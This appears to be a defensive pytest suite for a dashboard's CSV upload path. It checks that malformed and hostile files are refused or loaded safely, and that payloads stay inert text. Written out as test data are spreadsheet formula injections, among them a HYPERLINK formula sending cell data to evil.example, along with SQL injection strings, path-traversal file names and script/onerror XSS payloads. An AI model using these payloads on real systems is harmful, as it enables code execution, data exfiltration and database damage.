"""Hostile inputs (tests/fixtures/hostile/, made by make_corpus.py): every file goes through the real
upload path (store.ingest.load_path / load_file) into a real DuckDB file that already holds data.
Each is either refused whole with a plain-language message and the database left exactly as it was,
or loaded with its bad rows rejected by row number and reason while nothing outside the new batch
changes. Payloads (formulas, HTML, SQL) are stored as text, rendered as text and neutralised in
CSV downloads. Expected outcomes are written by hand from how each file was made.
"""
from __future__ import annotations

import csv
import functools
import io
import os
import re
import sys
import tempfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest

from ingest_helpers import (CONTACT_HEADER, FILTER_VALUES_AFRESH, charter, contact, contact_row, csv_text, dump, load,
                            open_db, rows)
from store.csvfile import BrokenQuoting, UploadRefused
from store.ingest import DateFormatNeeded, TooManyBadRows, load_file, load_path

PROJECT_ROOT = Path(__file__).resolve().parents[1]
HOSTILE = PROJECT_ROOT / "tests" / "fixtures" / "hostile"
sys.path.insert(0, str(HOSTILE))
import make_corpus  # noqa: E402

USER = "tester"
SMALL_LIMIT_MB = "0.05"   # for oversized.csv only


@dataclass(frozen=True)
class Refused:
    says: tuple[str, ...]                    # fragments of the message, in plain words
    kind: type = UploadRefused


@dataclass(frozen=True)
class Loaded:
    rows_in_file: int
    rejected: tuple[tuple[int, str], ...] = ()   # (spreadsheet row, fragment of the reason)
    encoding: str = "UTF-8"
    table: str = "contacts"


NOT_CSV = Refused(("not a CSV text file", "CSV UTF-8"))
UTF16 = Refused(("UTF-16", "CSV UTF-8"))
EMPTY = Refused(("The file is empty",))

EXPECTED = {
    # not CSV text
    "binary_png.csv": NOT_CSV,
    "binary_zip.csv": NOT_CSV,
    "excel_xlsx_renamed.csv": NOT_CSV,
    "utf16_le_bom.csv": UTF16,
    "utf16_be_no_bom.csv": UTF16,
    "nul_bytes.csv": NOT_CSV,
    # encodings
    # 0x81 0x8D: no Windows-1252; MS-DOS code page 850 makes "Annüì" of them, Mac Roman "AnnÅç"
    "invalid_utf8.csv": Loaded(6, encoding="MS-DOS code page 850"),
    "mixed_encodings.csv": Refused(("mixes encodings", "line 8", "CSV UTF-8")),
    "windows_1252.csv": Loaded(6, encoding="Windows-1252"),
    "utf8_bom.csv": Loaded(6, encoding="UTF-8 with BOM"),
    # empty and near-empty
    "empty.csv": EMPTY,
    "whitespace_only.csv": EMPTY,
    "header_only.csv": Refused(("header row but no data rows",)),
    # headers
    "duplicate_headers.csv": Refused(("2 columns named 'opened_at'", "columns 2 and 3")),
    "missing_required_columns.csv": Refused(("missing", "opened_at", "ticket_id, channel, agent, team")),
    "sql_injection_header.csv": Loaded(5),
    "sql_injection_header_only.csv": Refused(("do not match a known export", "DROP TABLE contacts")),
    # rows
    "ragged_rows.csv": Loaded(42, ((12, "more fields than the header (17)"),
                                   (33, "fewer fields than the header (17)"))),
    "too_many_bad_rows.csv": Refused(("3 of 20 rows (15%) are bad", "row 6: opened_at: cannot read 'not a date'",
                                      "row 11: csat must be", "row 16: ticket_id is missing"), TooManyBadRows),
    "unbalanced_quote_mid_file.csv": Refused(("Row 12 opens a quoted value", "never closed"), BrokenQuoting),
    "unbalanced_quote_at_end.csv": Refused(("Row 12 opens a quoted value", "never closed"), BrokenQuoting),
    "stray_quotes.csv": Loaded(7),
    # dates
    "ambiguous_day_month_dates.csv": Refused(("02/03/2026 14:05", "day-first or month-first", "dayfirst"),
                                             DateFormatNeeded),
    "dates_out_of_range.csv": Loaded(42, ((7, "opened_at: '9999-12-31 10:00' is not between 1970 and 2099"),
                                          (30, "resolved_at: '0001-01-01 00:00' is not between 1970 and 2099"))),
    # numbers
    "numbers_negative_and_huge.csv": Loaded(63, ((2, "csat must be a whole number from 1 to 5, not '-1'"),
                                                 (33, "reopened_count must be a whole number of 0 or more, not '-3'"),
                                                 (64, "reopened_count must be a whole number of 0 or more"))),
    "prices_negative_and_huge.csv": Loaded(60, ((11, "price_paid is negative"),
                                                (31, "price_paid must be a number with at most 4 decimals, such as 12.50, not '99999999999999999'"),
                                                (61, "new_customer_price must be a number with at most 4 decimals, such as 12.50, not '1e308'")),
                                           table="prices"),
    # payloads that stay text
    "formula_injection.csv": Loaded(5),
    "html_script.csv": Loaded(2),
    "sql_injection_values.csv": Loaded(3),
    # line endings and names
    "crlf_line_endings.csv": Loaded(8),
    "cr_line_endings.csv": Loaded(8),
    "path_traversal_name.csv": Loaded(3),
    # made at test time (large)
    "oversized.csv": Refused(("above the 0.05 MB limit", "DASHBOARD_MAX_UPLOAD_MB")),
    "columns_500.csv": Loaded(30),
    "columns_500_unknown.csv": Refused(("do not match a known export", "col0, col1", "(500 columns in all)")),
    "field_100kb.csv": Loaded(31, ((17, "agent is longer than 1,000 characters"),)),
    "field_100kb_unused_column.csv": Loaded(30),
    "header_200kb.csv": Refused(("first row could not be read as CSV column headers", "column 18 of it is 200,000 characters long")),
}

UPLOAD_NAMES = {"path_traversal_name.csv": "../../etc/passwd"}
COMMITTED = sorted(p.name for p in HOSTILE.glob("*.csv"))
LARGE = sorted(make_corpus.large_files())


def test_the_corpus_is_complete_and_reproducible(tmp_path):
    """At least 20 committed files, each with an expected outcome, byte-identical to what the script
    makes; the large files are made at test time only."""
    assert len(COMMITTED) >= 20
    assert set(COMMITTED) | set(LARGE) == set(EXPECTED)
    assert not set(COMMITTED) & set(LARGE)
    made = make_corpus.write(tmp_path)
    assert sorted(p.name for p in made) == COMMITTED
    for path in made:
        assert path.read_bytes() == (HOSTILE / path.name).read_bytes(), f"{path.name}: run make_corpus.py again"


# ----------------------------------------------------------------------------- the database

@pytest.fixture
def store(tmp_path, monkeypatch):
    """A database holding a batch of each table; uploads' scratch files go to a private folder."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    con = open_db(tmp_path, "hostile.duckdb")
    load(con, "contacts", csv_text(CONTACT_HEADER,
                                   contact_row("S1", "2026-03-02 09:00", agent="Ann", kind="complaint"),
                                   contact_row("S2", "2026-03-02 10:00", first_response_at="2026-03-02 10:30"),
                                   contact_row("S3", "2026-03-04 16:00", resolved_at="2026-03-05 10:00", csat="5")),
         "seed-contacts.csv")
    load(con, "customers", "customer_id,joined_at,product\nC1,2024-01-01,Home\nC2,2025-06-30,Home\n", "seed-customers.csv")
    load(con, "prices", "customer_id,period,price_paid,product\nC1,2026-01-01,100,Home\n", "seed-prices.csv")
    yield con, scratch
    con.close()


def columns(con, table: str) -> list[str]:
    cursor = con.cursor()
    try:
        cursor.execute(f'SELECT * FROM "{table}" LIMIT 0').fetchall()
        return [d[0] for d in cursor.description]
    finally:
        cursor.close()


def assert_only_the_batch_was_added(con, before: dict, after: dict, batch_id: int) -> None:
    """Nothing that was there changed or went; every added row belongs to the new batch."""
    assert set(after) == set(before)
    tickets = {r[0] for r in rows(con, "SELECT ticket_id FROM contact_versions WHERE batch_id = ?", [batch_id])}
    for table in before:
        if table == "meta":
            old, new = dict(before[table]), dict(after[table])
            assert int(new.pop("data_version")) == int(old.pop("data_version")) + 1
            assert new == old
            continue
        if table == "contact_filter_values":
            # counts per value (store/filter_values.py): they change with the batch, to the new count
            assert sorted(after[table]) == rows(con, FILTER_VALUES_AFRESH)
            continue
        added = Counter(after[table])
        added.subtract(Counter(before[table]))
        assert all(count >= 0 for count in added.values()), f"rows of {table} changed or went"
        added_rows = list(added.elements())
        names = columns(con, table)
        if table == "batches":
            assert [r[0] for r in added_rows] == [batch_id]
        elif table == "audit_log":
            assert len(added_rows) == 1 and added_rows[0][3].startswith(f"batch {batch_id}: ")
        elif "batch_id" in names:
            position = names.index("batch_id")
            assert {r[position] for r in added_rows} <= {batch_id}, table
        elif "ticket_id" in names:
            position = names.index("ticket_id")
            assert {r[position] for r in added_rows} <= tickets, table
        else:
            assert not added_rows, f"{table} gained rows"


def plain_message(message: str) -> None:
    assert message and len(message) < 1000, message
    for internal in ("Traceback", 'File "', "charterdesk-upload", "Error:", "Exception"):
        assert internal not in message, message


# ----------------------------------------------------------------------------- every file

def corpus_bytes(name: str) -> bytes:
    path = HOSTILE / name
    return path.read_bytes() if path.exists() else make_corpus.large_files()[name]


@pytest.mark.parametrize("name", COMMITTED + LARGE)
def test_hostile_file(store, tmp_path, monkeypatch, name):
    con, scratch = store
    expected = EXPECTED[name]
    table = expected.table if isinstance(expected, Loaded) else "contacts"
    if name == "oversized.csv":
        monkeypatch.setenv("DASHBOARD_MAX_UPLOAD_MB", SMALL_LIMIT_MB)
    source = tmp_path / "incoming" / name
    source.parent.mkdir()
    source.write_bytes(corpus_bytes(name))
    before = dump(con)

    if isinstance(expected, Refused):
        with pytest.raises(UploadRefused) as refusal:
            load_path(con, table, source, USER, charter())
        assert type(refusal.value) is expected.kind
        message = str(refusal.value)
        plain_message(message)
        for fragment in expected.says:
            assert fragment in message, (fragment, message)
        assert dump(con) == before
    else:
        upload_name = UPLOAD_NAMES.get(name, name)
        if upload_name == name:
            result = load_path(con, table, source, USER, charter())
        else:  # the browser's file name is only a label: the bytes are loaded under the hostile name
            result = load_file(con, table, source.read_bytes(), upload_name, USER, charter())
        assert result.file_name == upload_name
        assert result.encoding == expected.encoding
        assert result.rows_in_file == expected.rows_in_file
        assert result.rows_rejected == len(expected.rejected)
        assert result.rows_loaded == expected.rows_in_file - len(expected.rejected)
        got = list(zip(result.rejected["row"], result.rejected["reason"]))
        assert [row for row, _ in got] == [row for row, _ in expected.rejected]
        for (row, reason), (_, fragment) in zip(got, expected.rejected):
            assert fragment in reason, (row, reason)
            plain_message(reason)
        # The rejected rows are kept with the batch (the Data page's download) ...
        assert rows(con, "SELECT row_number, reason FROM rejected_rows WHERE batch_id = ? ORDER BY row_number",
                    [result.batch_id]) == got
        # ... the good rows are stored, and nothing outside the batch changed.
        versions = {"contacts": "contact_versions", "prices": "price_versions"}[table]
        assert rows(con, f"SELECT count(*) FROM {versions} WHERE batch_id = ?", [result.batch_id])[0][0] \
            == result.rows_loaded
        assert_only_the_batch_was_added(con, before, dump(con), result.batch_id)
    assert list(scratch.iterdir()) == [], "an upload left its scratch copy behind"


# ----------------------------------------------------------------------------- payloads stay text

def load_committed(con, name: str):
    return load_path(con, "contacts", HOSTILE / name, USER, charter())


def test_formula_cells_load_as_text_and_are_neutralised_in_downloads(store):
    from components.tables import csv_bytes

    con, _ = store
    result = load_committed(con, "formula_injection.csv")
    assert contact(con, "F1")["agent"] == "=cmd|' /C calc'!A0"
    assert (contact(con, "F1")["team"], contact(con, "F1")["category"], contact(con, "F1")["partner"]) == \
        ("+1+1", "-2+3", "@SUM(A1:A9)")
    assert contact(con, "F2")["agent"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (contact(con, "=1+1")["customer_id"], contact(con, "=1+1")["category"]) == ("@C1", "=1+1")
    assert (contact(con, "F4")["agent"], contact(con, "F4")["team"]) == ("\tTabbed", "\rCarriage")
    assert (contact(con, "F5")["agent"], contact(con, "F5")["category"]) == ("Ann\r=1+1", "bill\n@SUM(A1)")

    cursor = con.cursor()
    frame = cursor.execute("SELECT ticket_id, customer_id, team, agent, partner, category FROM contacts "
                           "WHERE batch_id = ? ORDER BY row_number", [result.batch_id]).df()
    cursor.close()
    downloaded = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert downloaded[0] == ["ticket_id", "customer_id", "team", "agent", "partner", "category"]
    assert downloaded[1] == ["F1", "", "'+1+1", "'=cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3"]
    assert downloaded[2] == ["F2", "", "Billing", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "", ""]
    assert downloaded[3] == ["'=1+1", "'@C1", "", "Ann", "", "'=1+1"]
    assert downloaded[4] == ["F4", "", "'\rCarriage", "'\tTabbed", "", ""]
    # A line break inside a value stays inside its quoted cell: no new row can start with a formula.
    assert downloaded[5] == ["F5", "", "", "Ann\r=1+1", "", "bill\n@SUM(A1)"]
    assert len(downloaded) == 6
    # No cell of the download starts with a character a spreadsheet would run.
    assert not [cell for line in downloaded for cell in line if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_sql_looking_values_are_only_data(store):
    con, _ = store
    load_committed(con, "sql_injection_values.csv")
    assert contact(con, "'; DROP TABLE contacts; --")["agent"] == "Robert'); DROP TABLE batches;--"
    assert contact(con, "SQL2")["team"] == 'Billing"; DELETE FROM contact_versions; --'
    assert contact(con, "SQL2")["category"] == "1; UPDATE meta SET value = '0'"
    assert (contact(con, "SQL3")["customer_id"], contact(con, "SQL3")["agent"], contact(con, "SQL3")["category"]) == \
        ("$1", "?", "${tz}")
    # Every table is still there and still holds the seed batch.
    assert rows(con, "SELECT count(*) FROM batches")[0][0] == 4
    assert rows(con, "SELECT count(*) FROM contact_versions WHERE ticket_id IN ('S1', 'S2', 'S3')")[0][0] == 3
    assert int(rows(con, "SELECT value FROM meta WHERE key = 'data_version'")[0][0]) == 4


def test_header_names_are_never_sql(store):
    con, _ = store
    result = load_committed(con, "sql_injection_header.csv")
    assert result.rows_loaded == 5 and contact(con, "H001")["agent"] == "Ann"
    assert rows(con, "SELECT count(*) FROM batches")[0][0] == 4


def test_quotes_inside_values_are_kept(store):
    con, _ = store
    load_committed(con, "stray_quotes.csv")
    assert contact(con, "S-STRAY")["agent"] == 'Ann "The Fixer" Lee'
    assert contact(con, "S-STRAY")["customer_id"] == 'C"1'
    assert contact(con, "S-QUOTED")["agent"] == 'Bob "Bobby", Jones'


def test_accented_names_survive_each_accepted_encoding(store):
    con, _ = store
    load_committed(con, "windows_1252.csv")
    load_committed(con, "utf8_bom.csv")
    assert (contact(con, "W-ACCENT")["agent"], contact(con, "W-ACCENT")["team"]) == ("Zoë Brontë", "Café Crème")
    assert contact(con, "B-ACCENT")["agent"] == "Zoë Brontë"


def test_line_endings_give_the_same_rows(store):
    con, _ = store
    for name, prefix in (("crlf_line_endings.csv", "L"), ("cr_line_endings.csv", "O")):
        load_committed(con, name)
        assert rows(con, f"SELECT ticket_id, agent, team FROM contacts WHERE ticket_id LIKE '{prefix}%' "
                         "ORDER BY ticket_id") == [(f"{prefix}{i:03d}", "Ann", "Billing") for i in range(1, 9)]


def test_upload_file_names_are_labels_not_paths(store, tmp_path, monkeypatch):
    con, scratch = store
    monkeypatch.chdir(tmp_path)
    passwd = Path("/etc/passwd")
    seen = (passwd.stat().st_mtime_ns, passwd.read_bytes()) if passwd.exists() else None
    files_before = {p for p in tmp_path.rglob("*") if not p.name.startswith("hostile.duckdb")}
    for number, hostile in enumerate(("../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini",
                                      "a/../../b.csv", "=cmd|' /C calc'!A0.csv", "<script>x</script>.csv")):
        data = csv_text(CONTACT_HEADER, contact_row(f"N{number}", "2026-03-03 09:00"))
        result = load_file(con, "contacts", data.encode(), hostile, USER, charter())
        assert rows(con, "SELECT file_name FROM batches WHERE batch_id = ?", [result.batch_id]) == [(hostile,)]
    if seen:
        assert (passwd.stat().st_mtime_ns, passwd.read_bytes()) == seen
    # Nothing was written beside the working folder, inside it or above it.
    assert {p for p in tmp_path.rglob("*") if not p.name.startswith("hostile.duckdb")} == files_before
    assert not (tmp_path.parent / "b.csv").exists() and not (tmp_path.parent / "etc").exists()
    assert list(scratch.iterdir()) == []


# ----------------------------------------------------------------------------- rendering

PAGES = "views" if (PROJECT_ROOT / "views").is_dir() else "pages"   # the app's page files
UNSAFE = re.compile(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.v1|streamlit\.components|"
                    r"st\.components|\.markdown\([^)]*allow_html")


# The only st.html calls allowed: the app's own stylesheets (the tiles', large text for a projector,
# small screens, captions and the keyboard's focus legible, charts side by side, tabs that wrap) and the script that keeps Back to the reader's own steps
# (components.links), files in the repository (never data); and the script that keeps a manager's
# sign-in cookie (components.auth), which writes only a token of the app's own shape (digits, dots,
# base64url), never a value it has not checked against that shape.
OWN_STYLESHEETS = ("st.html(TILE_STYLE)", "st.html(PROJECTOR_STYLE)", "st.html(SMALL_SCREEN_STYLE)",
                   "st.html(LEGIBLE_STYLE)", "st.html(SIDE_BY_SIDE_STYLE)",
                   "st.html(TABS_STYLE)", "st.html(_aligned_values_style(rows))",
                   "st.html(HISTORY_ELEMENT, unsafe_allow_javascript=True)",
                   "st.html(_cookie_script(token, max_age), unsafe_allow_javascript=True)")
ASSETS = PROJECT_ROOT / "components" / "assets"
HISTORY_ELEMENT = ('<style>.stElementContainer:has(#charter-desk-history) { display: none; }</style>'
                   f'<script id="charter-desk-history">{(ASSETS / "history.js").read_text(encoding="utf-8")}</script>')
OWN_STYLE_ELEMENTS = {f"<style>{(ASSETS / name).read_text(encoding='utf-8')}</style>"
                      for name in ("tiles.css", "small_screens.css", "side_by_side.css", "tabs.css", "legible.css")} | {HISTORY_ELEMENT}
# The one generated stylesheet (components.tiles): only tile-row keys and widths, never text from data.
ROW = r"\.st-key-kpi-tiles-n\d-\d+-\d+"
ALIGNED_VALUES_STYLE = re.compile(
    rf"<style>({ROW} > div {{ container-type: inline-size; }} @container \(max-width: \d+\.\d\drem\) "
    rf"{{ {ROW} \[data-testid='stMetricLabel'\] {{ min-height: 2lh; }} }} ?)+</style>")


def own_style(element) -> bool:
    return element.proto.body in OWN_STYLE_ELEMENTS or bool(ALIGNED_VALUES_STYLE.fullmatch(element.proto.body))


def test_no_page_renders_raw_html():
    """Upload text reaches the screen only through Streamlit elements that escape it: nothing in the
    app passes HTML through (the meeting pack, a downloaded file, escapes every value itself)."""
    offenders = []
    for path in [PROJECT_ROOT / "app.py", *(PROJECT_ROOT / PAGES).glob("*.py"),
                 *(PROJECT_ROOT / "components").glob("*.py")]:
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if UNSAFE.search(functools.reduce(lambda text, own: text.replace(own, ""), OWN_STYLESHEETS, line)):
                offenders.append(f"{path.relative_to(PROJECT_ROOT)}:{number}: {line.strip()}")
    assert offenders == []
    assert 'TILE_STYLE = Path(__file__).with_name("assets") / "tiles.css"' in \
        (PROJECT_ROOT / "components" / "tiles.py").read_text(encoding="utf-8")
    presentation = (PROJECT_ROOT / "components" / "presentation.py").read_text(encoding="utf-8")
    assert 'PROJECTOR_STYLE = Path(__file__).with_name("assets") / "projector.css"' in presentation
    assert 'SMALL_SCREEN_STYLE = Path(__file__).with_name("assets") / "small_screens.css"' in presentation
    assert 'LEGIBLE_STYLE = Path(__file__).with_name("assets") / "legible.css"' in presentation
    layout = (PROJECT_ROOT / "components" / "layout.py").read_text(encoding="utf-8")
    assert 'SIDE_BY_SIDE_STYLE = Path(__file__).with_name("assets") / "side_by_side.css"' in layout
    assert 'TABS_STYLE = Path(__file__).with_name("assets") / "tabs.css"' in layout
    pack = (PROJECT_ROOT / "components" / "meeting_pack.py").read_text(encoding="utf-8")
    assert "from html import escape" in pack
    from components.links import HISTORY_ELEMENT as drawn   # the element drawn is the file, nothing added
    assert drawn == HISTORY_ELEMENT


HTML_PAYLOADS = ["<script>alert('agent')</script>", "<b>Billing</b>", "<img src=x onerror=alert(1)>",
                 "</td></tr><iframe src=//evil.example>", "<style>*{display:none}</style>"]


def test_html_in_uploads_is_shown_as_text_on_the_pages(tmp_path, monkeypatch):
    import page_helpers
    from charter.model import load_charter
    from page_helpers import build_small_company, new_app
    from store import db

    if hasattr(page_helpers, "run_main_script_instead_of_pages_folder"):  # only while the pages are in pages/
        page_helpers.run_main_script_instead_of_pages_folder(monkeypatch)
    database, charter_file = Path(os.environ["DASHBOARD_DB"]), Path(os.environ["DASHBOARD_CHARTER"])
    build_small_company(tmp_path, database, charter_file)
    con = db.connect(database)
    try:
        load_path(con, "contacts", HOSTILE / "html_script.csv", USER, load_charter(charter_file))
    finally:
        con.close()

    at = new_app()
    at.run()
    shown: list[str] = []
    for page in (f"{PAGES}/{name}.py" for name in ("overview", "compliance", "complaints", "data")):
        at.switch_page(page).run()
        assert not at.exception, (page, [e.value for e in at.exception])
        assert all(own_style(element) for element in at.get("html")), page
        assert all(not element.allow_html for element in at.get("markdown")), page
        shown += [str(element.value) for element in at.get("markdown")]
        shown += [str(option) for element in at.multiselect for option in element.options]
        for frame in at.dataframe:
            shown += [str(value) for value in frame.value.to_numpy().ravel()]
    # The payloads reach the screen as the literal text that was uploaded.
    for payload in ("<b>Billing</b>", "<img src=x onerror=alert(1)>", "<style>*{display:none}</style>"):
        assert payload in shown, payload
